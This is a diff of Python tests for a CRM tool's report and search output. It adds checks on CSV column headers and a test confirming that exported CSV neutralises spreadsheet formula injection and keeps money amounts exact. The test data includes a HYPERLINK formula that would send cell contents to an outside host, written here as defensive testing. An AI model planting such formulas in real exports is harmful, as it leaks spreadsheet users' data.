@@ -42,6 +42,8 @@ def test_a_search_prints_rows_total_and_facets(crm_ops: Call, connected: sa.Engi
     assert told.code == 0
     assert f"{data.data['total']:,} in all; counts from sql" in told.err
     assert "(none)" in told.out
+    owners = len(data.data["facets"]["owner"]["buckets"])
+    assert f"({owners - 12} more, all with --json)" in told.out
 
 
 def test_the_same_without_redis(
@@ -120,8 +122,44 @@ def test_a_report_prints_a_table_json_and_csv(crm_ops: Call, connected: sa.Engin
         (row["currency"] or "", row["revenue"] or "") for row in data["rows"]
     ]
     assert "from sql, as of" in crm_ops(*asked).err
+    assert list(lines[0]) == ["close_month:year", "currency", "deals", "revenue"]
+    owners = list(
+        csv.DictReader(io.StringIO(crm_ops("report", "leads_by_owner", "--tenant", 1, "--csv").out))
+    )
+    assert list(owners[0]) == ["owner", "owner label", "leads"]
     total = crm_ops("report", "leads_by_status", "--tenant", 1, "--by", "nothing", "--json").data
     assert total["rows"] == [{"leads": counted(connected, "true")}]
+
+
+def test_a_csv_holds_money_to_the_last_digit_and_nothing_that_a_spreadsheet_would_run(
+    crm_ops: Call, connected: sa.Engine
+) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1)'
+    with database.transaction(connected) as connection:
+        sql.run(
+            connection,
+            "INSERT INTO crm.lead (company_id, name, source) VALUES (1, 'x', %(text)s),"
+            " (1, 'y', '-1+1'), (1, 'z', 'a=b')",
+            text=formula,
+        )
+        sql.run(
+            connection,
+            "INSERT INTO crm.deal (company_id, name, stage, amount, currency)"
+            " VALUES (1, 'refund', '@home', -1234567890123.10, 'EUR')",
+        )
+
+    def read(*asked: object) -> list[dict[str, str]]:
+        printed = crm_ops("report", *asked, "--tenant", 1, "--csv").out
+        return list(csv.DictReader(io.StringIO(printed)))
+
+    leads = {row["source"]: row["leads"] for row in read("leads_by_source")}
+    assert {f"'{formula}": "1", "'-1+1": "1", "a=b": "1"}.items() <= leads.items()
+    (refund,) = read("deals_by_stage", "--filter", "stage=@home")
+    assert (refund["stage"], refund["revenue"]) == ("'@home", "-1234567890123.10")
+    asked = ("report", "deals_by_stage", "--tenant", 1, "--filter", "stage=@home", "--json")
+    (line,) = crm_ops(*asked).data["rows"]
+    assert (line["stage"], line["currency"]) == ("@home", "EUR")
+    assert line["revenue"] == line["smallest"] == "-1234567890123.10"
 
 
 def test_the_indexes_of_searches_are_printed_and_can_be_run_twice(
